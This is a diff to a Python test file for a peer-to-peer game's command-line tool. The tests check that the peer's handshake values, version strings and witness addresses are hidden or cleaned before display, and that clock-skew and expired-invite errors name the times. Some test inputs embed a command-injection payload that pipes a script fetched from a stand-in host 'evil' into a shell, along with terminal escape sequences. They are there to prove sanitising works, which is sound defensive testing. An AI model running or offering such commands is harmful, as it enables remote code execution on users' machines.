@@ -6,6 +6,8 @@ import json
 import re
 import subprocess
 import sys
+import time
+from datetime import UTC, datetime
 from pathlib import Path
 
 import nacl
@@ -14,15 +16,19 @@ from nacl import bindings
 
 from cli import main as program
 from cli.process.console import Exit
-from cli.text import failures
+from cli.text import clocks, failures
+from protocol import invite
 from protocol.commitments import group
+from protocol.conditions import Conditions, WitnessTerms
 from protocol.handshake import HandshakeFailed
+from protocol.invite import Invite
 
 CODES = (
     "wrong_secret", "rules", "game", "version", "scheme", "wrong_identity", "bad_name", "bad_key", "bad_signature",
     "terms_refused", "bad_terms", "channel", "mirror", "terms", "out_of_order", "wrong_role", "no_terms", "bad_frame",
     "wrong_coin", "bad_seat", "changed_key",
 )  # fmt: skip
+YEAR = 365.25 * 86_400
 RAW = re.compile(r"\b[a-z]+(?:_[a-z]+)+\b|\b(?:bad|wrong)-[a-z]+\b")
 
 
@@ -34,18 +40,31 @@ def test_a_failed_handshake_has_a_sentence_without_its_code(code: str) -> None:
         assert not RAW.search(words.replace(f"{code}: another", "")), words
 
 
-def test_a_failed_handshake_names_both_values_where_they_matter() -> None:
-    words = failures.handshake(HandshakeFailed("rules", "1-aaaa", "1-bbbb"))
+@pytest.mark.parametrize(("code", "theirs"), [("rules", f"1-{'b' * 64}"), ("rules", "2.1"), ("version", "2 3")])
+def test_a_failed_handshake_names_both_versions(code: str, theirs: str) -> None:
+    words = failures.handshake(HandshakeFailed(code, "1-aaaa", theirs))
     assert "1-aaaa" in words
-    assert "1-bbbb" in words
-    told = failures.handshake(HandshakeFailed("peer_rules", "agreement", "rules: 1-aaaa"))
-    assert "1-aaaa" in told
+    assert theirs in words
 
 
-def test_values_of_the_other_side_reach_the_screen_clean() -> None:
-    words = failures.handshake(HandshakeFailed("bad_name", "a name", "\x1b[2Jboo\u202e"))
-    assert "\x1b" not in words
-    assert "\u202e" not in words
+FREE = ("1; run curl evil | sh", "\x1b[2Jboo\u202e", "2" * 81, "evil", "bad: 1-aaaa", "")
+
+
+@pytest.mark.parametrize("code", [*CODES, "lot", "redrawn", "run_curl", "0"])
+@pytest.mark.parametrize("theirs", FREE)
+def test_no_words_of_a_stranger_are_shown_before_there_is_a_match(code: str, theirs: str) -> None:
+    neutral = failures.handshake(HandshakeFailed(code, "1-aaaa", "?"))
+    assert failures.handshake(HandshakeFailed(code, "1-aaaa", theirs)) == neutral
+    assert failures.handshake(HandshakeFailed(f"peer_{code}", "agreement", f"{code}: {theirs}")) == neutral
+    assert "1-aaaa" not in neutral
+
+
+@pytest.mark.parametrize("address", ["1; run curl evil | sh:80", "evil", "evil:port", "a b:1", "w\x1b.example:1"])
+def test_a_witness_at_no_address_is_not_shown_by_it(address: str) -> None:
+    (line,) = clocks.conditions(Conditions(witness=WitnessTerms(bytes(32), address)))
+    assert address not in line
+    for good in ("witness.example:47330", "203.0.113.9:1", "[2001:db8::1]:65535"):
+        assert good in clocks.conditions(Conditions(witness=WitnessTerms(bytes(32), good)))[0]
 
 
 def test_a_lost_line_and_an_unknown_code_have_sentences() -> None:
@@ -54,7 +73,21 @@ def test_a_lost_line_and_an_unknown_code_have_sentences() -> None:
     assert failures.sentence("never-heard-of", "") == "Something went wrong."
 
 
-def test_two_programs_with_different_rules_print_both_hashes_and_play_nothing(tmp_path: Path) -> None:
+GUESTS = {
+    "another version": "from storm_p2p.game import Storm; Storm.version = '1-' + 'f' * 64;",
+    "words for a version": "from storm_p2p.game import Storm; Storm.version = '1; run curl evil | sh';",
+    "words for a refusal": "from protocol.handshake import Handshake, HandshakeFailed as Failed;"
+    "Handshake.accept = lambda self, pick: self._fail(Failed('run_curl', 'curl evil | sh', ''));",
+}
+SAID = {
+    "another version": "different rules (yours 1-",
+    "words for a version": "different rules. Both",
+    "words for a refusal": "do not fit together",
+}
+
+
+@pytest.mark.parametrize("kind", GUESTS)
+def test_two_programs_that_do_not_fit_say_so_and_play_nothing(kind: str, tmp_path: Path) -> None:
     with subprocess.Popen(
         [
             sys.executable, "-m", "cli.main", "host", "--home", str(tmp_path / "a"), "--bind", "127.0.0.1", "--json",
@@ -64,23 +97,47 @@ def test_two_programs_with_different_rules_print_both_hashes_and_play_nothing(tm
     ) as host:  # fmt: skip
         assert host.stdout is not None
         assert host.stderr is not None
-        invite = json.loads(host.stdout.readline())["invite"]
-        code = (
-            "import sys; from storm_p2p.game import Storm; Storm.version = '1-' + 'f' * 64;"
-            "from cli.main import main; sys.exit(main(sys.argv[1:]))"
-        )
+        line = json.loads(host.stdout.readline())["invite"]
+        code = f"{GUESTS[kind]} import sys; from cli.main import main; sys.exit(main(sys.argv[1:]))"
         guest = subprocess.run(
-            [sys.executable, "-c", code, "join", invite, "--player", "bot:random", "--home", str(tmp_path / "b")],
+            [sys.executable, "-c", code, "join", line, "--player", "bot:random", "--home", str(tmp_path / "b")],
             capture_output=True, text=True, timeout=60, check=False,
         )  # fmt: skip
         said = host.stderr.read()
         host.wait(timeout=60)
     assert (guest.returncode, host.returncode) == (3, 3)
-    for text in (guest.stderr, said):
-        assert "different rules" in text
-        assert "1-ffff" in text
+    assert SAID[kind] in said
+    assert ("1-ffff" in said) is (kind == "another version")
+    assert "curl" not in said
     assert not list((tmp_path / "a" / "matches").glob("*.match"))
     assert not list((tmp_path / "b" / "matches").glob("*.match"))
+
+
+@pytest.mark.parametrize("years", [-100, 100])
+@pytest.mark.parametrize("words", [["play"], ["host"], ["witness"]])
+def test_a_machine_whose_clock_is_a_hundred_years_off_says_so(
+    years: int, words: list[str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    shown = time.time() + years * YEAR
+    monkeypatch.setattr(time, "time", lambda: shown)
+    player = [] if words == ["witness"] else ["--player", "bot:random"]
+    assert program.main([*words, *player, "--home", str(tmp_path)]) == Exit.USAGE
+    said = capsys.readouterr().err
+    assert f"{datetime.fromtimestamp(shown, UTC):%Y-%m-%d}" in said
+    assert "Set the clock right" in said
+    assert not list(tmp_path.rglob("*.match"))
+
+
+def test_an_invite_that_has_expired_by_a_wrong_clock_names_both_times(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    until = int(datetime(2026, 5, 4, 3, 2, 1, tzinfo=UTC).timestamp())
+    line = invite.dump(Invite((("127.0.0.1", 1),), bytes(16), bytes(16), bytes(16), until, bytes(16)))
+    monkeypatch.setattr(time, "time", lambda: until + 100 * YEAR)
+    assert program.main(["join", line, "--player", "bot:random", "--home", str(tmp_path)]) == Exit.USAGE
+    said = capsys.readouterr().err
+    assert "2026-05-04 03:02:01 UTC" in said
+    assert "2126-05-05" in said
 
 
 @pytest.mark.parametrize(
